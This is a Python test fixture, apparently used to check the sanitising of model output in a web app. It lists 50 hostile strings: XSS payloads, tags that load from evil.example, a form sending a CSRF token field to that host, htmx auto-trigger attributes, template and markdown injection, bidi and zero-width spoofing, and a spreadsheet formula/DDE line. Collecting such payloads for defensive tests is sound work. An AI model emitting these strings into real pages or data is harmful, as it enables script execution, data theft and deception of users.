"""What a model may answer, or a row may hold, to get something loaded, run or believed."""

EVIL = "https://evil.example"
_HOST = EVIL.removeprefix("https:")

PAYLOADS: tuple[str, ...] = (
    # Loading from elsewhere.
    f'<img src="{EVIL}/1.png">',
    f'"><img src={EVIL}/2.png onerror=alert(1)>',
    f"'><img src='{EVIL}/3.png'>",
    f'<img srcset="{EVIL}/4.png 1x">',
    f'<picture><source srcset="{EVIL}/5"><img></picture>',
    f'<link rel="stylesheet" href="{EVIL}/6.css">',
    f'<link rel="preload" as="image" href="{EVIL}/7"><link rel=prefetch href={EVIL}/8>',
    f"<style>@import '{EVIL}/9.css';</style>",
    f"<div style=\"background:url('{EVIL}/10')\">x</div>",
    f'<iframe src="{EVIL}/11"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{EVIL}/12"></object><embed src="{EVIL}/13">',
    f'<video src="{EVIL}/14" poster="{EVIL}/15"></video><audio src="{EVIL}/16">',
    f'<svg><image href="{EVIL}/17"/><use href="{EVIL}/18#x"/></svg>',
    f'<body background="{EVIL}/19"><table background="{EVIL}/20">',
    f'<input type="image" src="{EVIL}/21">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/22">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/23"><input name=csrfmiddlewaretoken><button>Go</button></form>',
    f'<a ping="{EVIL}/24" href="{EVIL}/25">look</a>',
    f'<img src="{_HOST}/26">',
    # Running.
    "<script>alert(1)</script>",
    f'<script src="{EVIL}/27.js"></script>',
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></pre></code><svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<input autofocus onfocus="alert(1)">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template><x-y onclick=alert(1)>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ settings.SECRET_KEY }}{% debug %}{% include 'base.html' %}${alert(1)}#{alert(1)}",
    # Aimed at what the page itself uses.
    f'<div hx-get="{EVIL}/28" hx-trigger="load"></div>',
    '<div hx-post="/jobs/new/" hx-trigger="load" hx-vals=\'{"action":"launch"}\'></div>',
    '<hx-partial hx-target="body"><h1>gone</h1></hx-partial>',
    '<button data-confirm-go data-dialog="confirm" data-once data-autosubmit>Go</button>',
    '<template hx type="partial" hx-target="#main"><script>alert(1)</script></template>',
    # Markdown that a careless page would make markup of.
    f"![x]({EVIL}/29.png) [click](javascript:alert(1)) <{EVIL}/30> {EVIL}/31",
    f"[x]: {EVIL}/32\n![x][x]\n```html\n<img src={EVIL}/33>\n```",
    # Seeming to be something else.
    "invoice\u202egpj.exe \u2066\u2067\u2068hidden\u2069 \u200e\u200f\u061c\ufeff end",
    "zero\u200bwidth\u2060 \u0007\u001b[31mred\u001b[0m a\u0300\u0301\u0302\u0303" + "\u0489" * 50,
    "\U0001f608\U000e0041\U000e0042" + "W" * 3000,
    "=HYPERLINK(\"https://evil.example/34\") @SUM(1) +cmd|' /C calc'!A0 -2+3",
)
assert len(PAYLOADS) == 50
